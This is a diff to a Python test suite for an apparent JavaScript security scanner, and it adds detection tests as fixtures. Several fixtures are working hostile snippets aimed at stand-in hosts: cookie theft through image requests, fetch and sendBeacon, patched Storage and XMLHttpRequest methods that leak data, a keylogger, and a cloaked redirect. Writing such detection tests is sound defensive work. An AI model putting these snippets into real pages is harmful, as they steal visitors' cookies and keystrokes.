@@ -23,7 +23,7 @@ def _cats(findings: list[Finding], minimum: Severity = Severity.LOW) -> set[Cate
 
 def test_declared_capability_turns_the_finding_into_info() -> None:
     source = "var f = new Function('a', userCode);"
-    assert max(f.severity for f in _findings(source)) is Severity.MEDIUM
+    assert max(f.severity for f in _findings(source)) is Severity.LOW
     declared = _findings(source, Capabilities(eval=True))
     assert [f.severity for f in declared] == [Severity.INFO]
     assert "declares eval" in declared[0].message
@@ -104,7 +104,8 @@ def test_stashed_base64_javascript_is_found_without_an_eval() -> None:
     )
     source = f"var blob = '{base64.b64encode(code.encode()).decode()}';"
     cats = _cats(_findings(source))
-    assert {Category.OBFUSCATION, Category.DOM_ESCAPE, Category.EXFILTRATION} <= cats
+    # The payload is a keylogger: page-wide key listener whose keys go to a request.
+    assert {Category.OBFUSCATION, Category.CREDENTIAL_ACCESS, Category.EXFILTRATION} <= cats
 
 
 def test_page_listener_for_input_events_only() -> None:
@@ -118,3 +119,170 @@ def test_findings_name_the_capability_they_exercise() -> None:
     caps = {f.rule_id: dict(f.details).get("capability") for f in findings}
     assert caps["js-cookie-access"] == "cookies"
     assert caps["js-network-request"] == "network"
+
+
+def _rule(findings: list[Finding], rule_id: str) -> list[Finding]:
+    return [f for f in findings if f.rule_id == rule_id]
+
+
+def test_a_bundles_own_class_named_like_a_global_is_not_the_global() -> None:
+    """echarts defines its own Storage and Element: patching those touches nothing of the page."""
+    source = """
+    (function () {
+      function Storage(root) { this.root = root; }
+      Storage.prototype.add = function (el) { this.root.push(el); };
+      var Element = function () {};
+      Element.prototype.attr = function (k, v) { this[k] = v; };
+      class Node { }
+      Node.prototype.walk = function () {};
+    })();
+    """
+    assert _rule(_findings(source), "js-global-override") == []
+
+
+def test_an_alias_of_the_global_is_still_the_global() -> None:
+    source = """
+    (function () {
+      var Storage = window.Storage;
+      Storage.prototype.setItem = function (k, v) { new Image().src = '//x.example/?' + k + v; };
+    })();
+    """
+    hits = _rule(_findings(source), "js-global-override")
+    assert [f.severity for f in hits] == [Severity.HIGH]
+
+
+def test_a_local_class_elsewhere_does_not_hide_a_global_patch() -> None:
+    source = """
+    (function () { function Storage() {} Storage.prototype.a = 1; })();
+    Storage.prototype.setItem = function (k, v) { fetch('https://x.example/', {body: v}); };
+    """
+    hits = _rule(_findings(source), "js-global-override")
+    assert [f.severity for f in hits] == [Severity.HIGH]
+
+
+def test_forwarding_wrapper_is_low_and_sending_wrapper_is_high() -> None:
+    forwarding = """
+    var send = XMLHttpRequest.prototype.send;
+    XMLHttpRequest.prototype.send = function (b) { zone.track(this); return send.call(this, b); };
+    """
+    sending = """
+    var send = XMLHttpRequest.prototype.send;
+    XMLHttpRequest.prototype.send = function (b) {
+      navigator.sendBeacon('https://collect.example/', b); return send.call(this, b);
+    };
+    """
+    assert [f.severity for f in _rule(_findings(forwarding), "js-global-override")] == [
+        Severity.LOW
+    ]
+    assert [f.severity for f in _rule(_findings(sending), "js-global-override")] == [Severity.HIGH]
+
+
+def test_cookie_severity_follows_where_the_value_goes() -> None:
+    helper = """
+    function xsrf(name) {
+      var m = document.cookie.match(new RegExp('(^|;\\\\s*)(' + name + ')=([^;]*)'));
+      return m ? decodeURIComponent(m[3]) : null;
+    }
+    """
+    whole = "var jar = document.cookie; render(jar);"
+    direct = "new Image().src = 'https://c.example/p?c=' + encodeURIComponent(document.cookie);"
+    bound = """
+    function grab() {
+      var all = document.cookie;
+      fetch('https://c.example/in', { method: 'POST', body: all });
+    }
+    """
+    encoded = "var packed = btoa(document.cookie);"
+
+    def severity(source: str) -> list[Severity]:
+        return [f.severity for f in _rule(_findings(source), "js-cookie-access")]
+
+    assert severity(helper) == [Severity.LOW]
+    assert severity(whole) == [Severity.MEDIUM]
+    for theft in (direct, bound, encoded):
+        found = _rule(_findings(theft), "js-cookie-access")
+        assert [(f.severity, f.category) for f in found] == [
+            (Severity.CRITICAL, Category.EXFILTRATION)
+        ], theft
+
+
+def test_declared_cookies_do_not_excuse_sending_them_away() -> None:
+    direct = "navigator.sendBeacon('https://c.example/', document.cookie);"
+    found = _rule(_findings(direct, Capabilities(cookies=True)), "js-cookie-access")
+    assert [f.severity for f in found] == [Severity.CRITICAL]
+
+
+def test_redirects_by_intent_not_by_the_link() -> None:
+    link = "button.onclick = function () { window.open('https://docs.example.org/help'); };"
+    cloaked = """
+    if (/Android|iPhone/.test(navigator.userAgent) && document.referrer.indexOf('google') > -1) {
+      window.location.href = 'https://promo.example.net/land';
+    }
+    """
+    carrying = "location.href = 'https://t.example.net/r?from=' + document.domain;"
+    assert [f.severity for f in _rule(_findings(link), "js-navigation")] == [Severity.LOW]
+    found = _rule(_findings(cloaked), "js-navigation")
+    assert [(f.severity, f.category) for f in found] == [(Severity.HIGH, Category.MALWARE)]
+    assert [f.severity for f in _rule(_findings(carrying), "js-navigation")] == [Severity.HIGH]
+
+
+def test_capability_evidence_without_data_flow_is_low() -> None:
+    """Code a library contains but a plugin may never run is a reason to look, not to judge."""
+    source = """
+    function load(u) { return fetch(u).then(function (r) { return r.json(); }); }
+    function toast(m) { var d = document.createElement('div'); d.textContent = m;
+      document.body.appendChild(d); }
+    function compile(t) { return new Function('data', t); }
+    """
+    found = [f for f in _findings(source) if f.severity > Severity.INFO]
+    assert found and all(f.severity is Severity.LOW for f in found)
+
+
+def test_an_xsrf_token_for_a_request_header_is_not_theft() -> None:
+    """rxjs/axios: one named cookie into a header of the library's own request."""
+    source = """
+    function send(cfg) {
+      var headers = {}, token = null;
+      if (cfg.xsrfCookieName) {
+        var name = cfg.xsrfCookieName;
+        token = document.cookie.match(new RegExp('(^|;\\\\s*)(' + name + ')=([^;]*)'));
+      }
+      if (token) headers[cfg.xsrfHeaderName] = token.pop();
+      var xhr = new XMLHttpRequest();
+      xhr.open(cfg.method, cfg.url);
+      xhr.send(cfg.body);
+    }
+    """
+    assert [f.severity for f in _rule(_findings(source), "js-cookie-access")] == [Severity.LOW]
+    stolen = "fetch('https://c.example/?s=' + document.cookie.match(/sid=([^;]+)/)[1]);"
+    assert [f.severity for f in _rule(_findings(stolen), "js-cookie-access")] == [Severity.CRITICAL]
+
+
+def test_a_page_listener_that_sends_keys_is_a_keylogger() -> None:
+    shortcut = (
+        "document.addEventListener('keydown', function (e) { if (e.key === 'Escape') close(); });"
+    )
+    logger = """
+    var buf = '';
+    document.addEventListener('keydown', function (e) {
+      buf += e.key;
+      if (buf.length > 20) {
+        new Image().src = 'https://k.example/l?d=' + encodeURIComponent(buf);
+        buf = '';
+      }
+    });
+    """
+    assert [f.severity for f in _rule(_findings(shortcut), "js-page-listener")] == [Severity.LOW]
+    found = _rule(_findings(logger), "js-page-listener")
+    assert [(f.severity, f.category) for f in found] == [
+        (Severity.CRITICAL, Category.CREDENTIAL_ACCESS)
+    ]
+
+
+def test_any_property_name_cut_mid_word_into_literals_is_hidden() -> None:
+    """Landing pages cut even harmless names (parseInt, Math.floor) to defeat search."""
+    cut = "var n = window['parse' + 'Int'], f = window['M' + 'a' + 'th']['fl' + /* x */ 'oor'];"
+    found = _rule(_findings(cut), "js-hidden-name")
+    assert {f.message.split("'")[1] for f in found} == {"parseInt", "Math", "floor"}
+    readable = "a = el['data-' + 'id']; b = s['-webkit-' + 'transform']; c = o['on' + type];"
+    assert _rule(_findings(readable), "js-hidden-name") == []
